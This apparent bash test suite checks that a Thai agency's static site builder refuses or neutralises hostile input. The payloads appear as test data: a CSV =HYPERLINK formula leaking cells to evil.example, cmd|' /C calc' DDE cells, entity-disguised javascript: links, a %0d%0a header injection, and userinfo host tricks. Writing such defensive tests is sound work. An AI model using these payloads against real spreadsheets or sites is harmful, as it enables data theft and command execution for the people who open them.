#!/usr/bin/env bash
# Hostile data for `oit build`: URLs in menus and Markdown, spreadsheet formulas in CSV tables, control
# characters in titles and tables, tables too wide, too long or never closed. Each case is a copy of
# tests/fixtures/base-site with the hostile file laid over it. A refused build must exit 2 with the message
# and leave the previously published site byte for byte as it was; an accepted one must publish safe output
# (well-formed XML, neutralised spreadsheet cells, no live script URL).
#   usage: build_data.sh OIT_BINARY REPO_ROOT
source "$(dirname "$0")/lib.sh"
BASE=$REPO/tests/fixtures/base-site

# site NAME: a fresh copy of the base site at $WORK/NAME (echoes the path).
site() { rm -rf "${WORK:?}/$1"; cp -r "$BASE" "$WORK/$1"; echo "$WORK/$1"; }
CSV_DIR=content/procurement/monthly
OPENDATA='
[opendata]
data_type = "ข้อมูลระเบียน"
objective = ["พันธกิจหน่วยงาน"]
update_frequency_unit = "เดือน"
geo_coverage = "ประเทศ"
data_category = "ข้อมูลสาธารณะ"
license_id = "Creative Commons Attributions"'

# opendata SITE: every table of SITE becomes a dataset (its page's summary is the dataset's notes).
opendata() {
  printf '%s\n' "$OPENDATA" >> "$1/site.toml"
  sed -i '2a summary = "รายการจัดซื้อจัดจ้างรายเดือน"' "$1/$CSV_DIR/index.md"
}

# A published site that every refused build must leave untouched.
PUB=$WORK/public
"$OIT" build --source "$BASE" --out "$PUB" >/dev/null 2>&1 || { echo "the base site does not build"; exit 1; }
snapshot() { (cd "$PUB" && find . -type f -print0 | sort -z | xargs -0 sha256sum); }
BEFORE=$(snapshot)
untouched() { [ "$(snapshot)" = "$BEFORE" ] && [ -z "$(find "$WORK" -maxdepth 1 -name '.public.tmp-*')" ]; }
first_error() { grep -m1 '^error: ' "$WORK/err"; }
refused() {  # refused WANT_LINE: exit 2, the first error line is WANT_LINE, the old site untouched, no crash
  no_crash && [ "$STATUS" -eq 2 ] && [ "$(first_error)" = "error: $1" ] && untouched
}
# Every XML file of a published folder parses.
xml_ok() { python3 - "$1" <<'PY'
import pathlib, sys, xml.dom.minidom
bad = []
for p in pathlib.Path(sys.argv[1]).rglob('*.xml'):
    try: xml.dom.minidom.parse(str(p))
    except Exception as e: bad.append(f'{p}: {e}')
print('\n'.join(bad)); sys.exit(1 if bad else 0)
PY
}

# --- Issue 11 case 3: a menu URL \\evil.example\x (browsers read //evil.example/x) -----------------------
S=$(site menu-backslash)
sed -i 's|^url = "/news/"$|url = '"'"'\\\\evil.example\\x'"'"'|' "$S/site.toml"
hostile_run 60 800 "$OIT" build --source "$S" --out "$PUB"
expect "case 3: menu URL \\\\evil.example\\x is refused like the same Markdown link" \
  refused 'site.toml:25:7: menu `url` "\\evil.example\x" is a path on a network share (browsers read it as //evil.example/…, another site), not a web address'

S=$(site markdown-backslash)
printf '+++\ntitle = "ประชุม"\ndate = 2025-01-15\n+++\nดู[รายงาน](/\\\\evil.example/x)\n' > "$S/content/news/meeting.md"
hostile_run 60 800 "$OIT" build --source "$S" --out "$PUB"
expect "case 3: Markdown link /\\evil.example/x is refused with the same words" \
  refused 'content/news/meeting.md:5:7: link `/\evil.example/x` is a path on a network share (browsers read it as //evil.example/…, another site), not a web address'

# --- Issue 11 case 4: formula cells in open-data CSV files --------------------------------------------
S=$(site formulas)
opendata "$S"
cat > "$S/$CSV_DIR/procurement.csv" <<'CSV'
ที่,ชื่อรายการของงานที่ซื้อหรือจ้าง,ราคาที่ตกลงซื้อหรือจ้าง (บาท),เดือน
1,"=HYPERLINK(""http://evil.example/?leak=""&A1,""ดูรายละเอียด"")",1500.50,2024-10
2,+cmd|' /C calc'!A0,-12.5,2024-11
3,@SUM(1+1)*cmd|' /C calc'!A0,-,2024-12
CSV
OUT=$WORK/formulas-out
hostile_run 60 800 "$OIT" build --source "$S" --out "$OUT"
check_formulas() {
  no_crash && [ "$STATUS" -eq 0 ] && python3 - "$OUT" <<'PY'
import json, pathlib, re, sys, zipfile
out = pathlib.Path(sys.argv[1])
ds = out / 'opendata/procurement-monthly'
csv = (ds / 'procurement-monthly.csv').read_text(encoding='utf-8-sig')
bundle = (out / 'procurement/monthly/procurement.csv').read_text(encoding='utf-8')
for name, text in (('open-data CSV', csv), ('bundle CSV', bundle)):
    cells = [c for line in text.splitlines() for c in re.findall(r'(?:^|,)("(?:[^"]|"")*"|[^,]*)', line)]
    live = [c for c in cells if c.strip('"')[:1] in ('=', '+', '@') or re.match(r'^"?-[^0-9]', c)]
    assert not live, (name, live)
    assert "'=HYPERLINK" in text and "'+cmd|" in text and "'@SUM" in text, name
    assert ',-12.5,' in text and ',-,' in text, name        # plain numbers and "-" stay usable
records = json.loads((ds / 'procurement-monthly.json').read_text(encoding='utf-8'))
assert records[0]['ชื่อรายการของงานที่ซื้อหรือจ้าง'].startswith('=HYPERLINK('), records[0]
assert records[1]['ราคาที่ตกลงซื้อหรือจ้าง (บาท)'] == -12.5
with zipfile.ZipFile(ds / 'procurement-monthly.xlsx') as z:
    xml = ''.join(z.read(n).decode('utf-8') for n in z.namelist() if n.startswith('xl/'))
assert '<f>' not in xml and '<f ' not in xml, 'a formula in the XLSX'
assert '=HYPERLINK(' in xml and '+cmd|' in xml                # the true value, as text
page = (ds / 'index.html').read_text(encoding='utf-8')
assert 'ในไฟล์ CSV มี 3 เซลล์ที่ขึ้นต้นด้วย = + - @' in page, 'the landing page does not say so'
gd = json.loads((ds / 'procurement-monthly.gdcatalog.json').read_text(encoding='utf-8'))
assert '3 CSV cell(s) starting with = + - @' in gd['notes']
table = (out / 'procurement/monthly/index.html').read_text(encoding='utf-8')
assert '=HYPERLINK(&quot;http://evil.example/?leak=&quot;&amp;A1' in table   # the page shows the true value
assert 'class="table-note"' in table
PY
}
expect "case 4: formula cells neutralised in both CSV downloads, true in JSON/XLSX/HTML, said in the notes" check_formulas

# --- Issue 11 case 12: control characters in a title --------------------------------------------------
for cp in 000B 0001; do
  S=$(site title-$cp)
  sed -i 's|^title = "ประชุมคณะทำงาน ITA"$|title = "ประชุม\\u'$cp'คณะทำงาน"|' "$S/content/news/meeting.md"
  hostile_run 60 800 "$OIT" build --source "$S" --out "$PUB"
  expect "case 12: U+$cp in a title is refused with its place" \
    refused "content/news/meeting.md:2:1: control character U+$cp in \`title\` (character 7): feeds and web pages cannot hold it"
done
S=$(site yaml-title)
printf -- '---\ntitle: ประชุม\x0bคณะ\ndate: 2025-01-15\n---\nข่าว\n' > "$S/content/news/meeting.md"
hostile_run 60 800 "$OIT" build --source "$S" --out "$PUB"
expect "case 12: a raw U+000B in a YAML title is refused" \
  refused 'content/news/meeting.md:2:1: control character U+000B in `title` (character 7): feeds and web pages cannot hold it'
# site.toml strings are refused at their place too (a TOML escape is how a control character gets there).
S=$(site site-title)
sed -i 's|^name = "สำนักงานทดสอบระบบ"$|name = "สำนักงาน\\u001Fทดสอบ"|' "$S/site.toml"
hostile_run 60 800 "$OIT" build --source "$S" --out "$PUB"
expect "case 12: a \\u001F escape in site.toml's agency name is refused with its place" \
  refused 'site.toml:10:8: control character U+001F in `name` (character 9): feeds and web pages cannot hold it'

# --- Issue 11 case 13: a 1.2 MB CSV of 100,000 columns ------------------------------------------------
S=$(site wide)
python3 -c "
n = 100000
row = ','.join('1' for _ in range(n))
open('$S/$CSV_DIR/procurement.csv', 'w').write(','.join(f'c{i}' for i in range(n)) + '\n' + row + '\n' + row + '\n')"
hostile_run 20 800 "$OIT" build --source "$S" --out "$PUB"
expect "case 13: 100,000 columns are refused at once, at column 1,001, naming the limit" \
  eval 'refused "content/procurement/monthly/procurement.csv:1:4891: row has more than 1000 columns (the limit)" && python3 -c "import sys; sys.exit(0 if $ELAPSED < 5 else 1)"'
S=$(site wide-ok)
python3 -c "
n = 1000
open('$S/$CSV_DIR/procurement.csv', 'w').write(','.join(f'c{i}' for i in range(n)) + '\n' + ''.join(','.join(str(r) for _ in range(n)) + '\n' for r in range(300)))"
opendata "$S"
hostile_run 120 1500 "$OIT" build --source "$S" --out "$WORK/wide-ok-out"
expect "case 13: 1,000 columns x 300 rows (the limit) build with their open data in bounded time (${ELAPSED}s)" \
  eval 'no_crash && [ "$STATUS" -eq 0 ] && [ -s "$WORK/wide-ok-out/opendata/procurement-monthly/procurement-monthly.json" ]'

# --- More hostile data ---------------------------------------------------------------------------------
# A BOM, then CRLF and LF line ends mixed (files edited in Excel and then in a Unix editor).
S=$(site bom-crlf)
printf '\xef\xbb\xbfที่,รายการ,ราคาที่ตกลงซื้อหรือจ้าง (บาท),เดือน\r\n1,กระดาษ,1500.50,2024-10\n2,"หมึก\r\nพิมพ์",900,2024-11\r\n' > "$S/$CSV_DIR/procurement.csv"
hostile_run 60 800 "$OIT" build --source "$S" --out "$WORK/bom-out"
expect "extra: a CSV with a BOM and mixed CRLF/LF line ends reads as two clean rows" \
  eval 'no_crash && [ "$STATUS" -eq 0 ] && python3 -c "
import json; r = json.load(open(\"$WORK/bom-out/procurement/monthly/procurement.json\", encoding=\"utf-8\"))
assert list(r[0])[0] == \"ที่\" and r[1][\"รายการ\"] == \"หมึก\\nพิมพ์\" and len(r) == 2, r"'

# A NUL byte inside a quoted cell.
S=$(site nul-cell)
printf 'ที่,รายการ\n1,"กระดาษ\x00A4"\n' > "$S/$CSV_DIR/procurement.csv"
hostile_run 60 800 "$OIT" build --source "$S" --out "$PUB"
expect "extra: a NUL byte in a CSV cell is refused with its place" \
  eval 'no_crash && [ "$STATUS" -eq 2 ] && first_error | grep -q "^error: content/procurement/monthly/procurement.csv:2:10: NUL byte at byte offset" && untouched'

# A vertical tab in a CSV cell (spreadsheet export of text pasted from Word): it would reach the XLSX's XML.
S=$(site vt-cell)
printf 'ที่,รายการ\n1,กระดาษ\x0bA4\n' > "$S/$CSV_DIR/procurement.csv"
hostile_run 60 800 "$OIT" build --source "$S" --out "$PUB"
expect "extra: a vertical tab in a CSV cell is refused with its place" \
  refused 'content/procurement/monthly/procurement.csv:2:9: control character U+000B at byte offset 49: web pages, XML and spreadsheets cannot hold it'

# An unterminated quote at the end of a 10 MB CSV: one error at the opening quote, in bounded time and memory.
S=$(site unterminated)
python3 -c "
rows = ''.join(f'{i},จัดซื้อวัสดุสำนักงานรายการที่ {i}\n' for i in range(1, 200000))
open('$S/$CSV_DIR/procurement.csv', 'w').write('ที่,รายการ\n' + rows + '200000,\"ยังไม่ปิด' + 'ก' * 100000)"
hostile_run 60 1500 "$OIT" build --source "$S" --out "$PUB"
expect "extra: an unterminated quote at the end of a 10 MB CSV is refused at the quote (${ELAPSED}s, ${RSS_MB} MB)" \
  refused 'content/procurement/monthly/procurement.csv:200001:8: quoted field opened here is never closed'

# 200,000 rows of one column (the row limit, see source_file.h): within the limits, published in bounded
# time and memory; one row more is refused by hostile/build_files.sh.
S=$(site rowlimit)
python3 -c "open('$S/$CSV_DIR/procurement.csv', 'w').write('ที่\\n' + ''.join(f'{i}\\n' for i in range(200000)))"
hostile_run 240 2000 "$OIT" build --source "$S" --out "$WORK/rowlimit-out"
expect "extra: 200,000 rows of one column (the row limit) are published (${ELAPSED}s, ${RSS_MB} MB)" \
  eval 'no_crash && [ "$STATUS" -eq 0 ] && [ "$(grep -c "<tr>" "$WORK/rowlimit-out/procurement/monthly/index.html")" -eq 200001 ]'

# Script URLs disguised by entities and newlines in Markdown lose their URL; a menu's java<TAB>script: is refused.
S=$(site disguised)
printf '+++\ntitle = "ประชุม"\ndate = 2025-01-15\n+++\n[a](java&#10;script:alert(1)) [b](&#106;avascript:alert(2)) [c](java&#x09;script:alert(3)) [d](&#x6A;avascript&#x3A;alert(4))\n' > "$S/content/news/meeting.md"
hostile_run 60 800 "$OIT" build --source "$S" --out "$WORK/disguised-out"
expect "extra: entity- and newline-disguised javascript: links in Markdown publish no script URL" \
  eval 'no_crash && [ "$STATUS" -eq 0 ] && grep -q "href=\"\">a</a>" "$WORK/disguised-out/news/meeting/index.html" && ! grep -rqiE "href=\"[^\"]*(java|&#)" "$WORK/disguised-out/news/meeting/index.html"'
S=$(site menu-tab)
sed -i 's|^url = "/news/"$|url = "java\\tscript:alert(1)"|' "$S/site.toml"
hostile_run 60 800 "$OIT" build --source "$S" --out "$PUB"
expect "extra: a menu URL java<TAB>script: is refused" \
  refused 'site.toml:25:7: menu `url` "java	script:alert(1)" is not usable: it contains control characters (U+0009), which browsers drop or trim: "java\tscript:" is javascript:'

# A menu URL with %0d%0a: percent-encoded bytes are text in an href; it is published exactly as written
# (no decoding turns it into a line break in the page or a header).
S=$(site menu-crlf)
sed -i 's|^url = "/news/"$|url = "https://www.example.go.th/search?q=%0d%0aSet-Cookie:%20x=1"|' "$S/site.toml"
hostile_run 60 800 "$OIT" build --source "$S" --out "$WORK/menu-crlf-out"
expect "extra: a menu URL with %0d%0a is published percent-encoded, never as a line break" \
  eval 'no_crash && [ "$STATUS" -eq 0 ] && grep -q "href=\"https://www.example.go.th/search?q=%0d%0aSet-Cookie:%20x=1\"" "$WORK/menu-crlf-out/index.html" && ! grep -q "^Set-Cookie" "$WORK/menu-crlf-out/index.html"'

# A footer menu naming a user before the host: www.example.go.th@evil.example goes to evil.example.
S=$(site menu-userinfo)
printf '\n[[menu.footer]]\ntitle = "เข้าสู่ระบบ"\nurl = "https://www.example.go.th@evil.example/login"\n' >> "$S/site.toml"
hostile_run 60 800 "$OIT" build --source "$S" --out "$PUB"
expect "extra: a footer URL with a user name before the host is refused" \
  refused 'site.toml:29:7: menu `url` "https://www.example.go.th@evil.example/login" is not usable: it has a user name before its host (…@evil.example): browsers go to the host after the @'

hostile_done
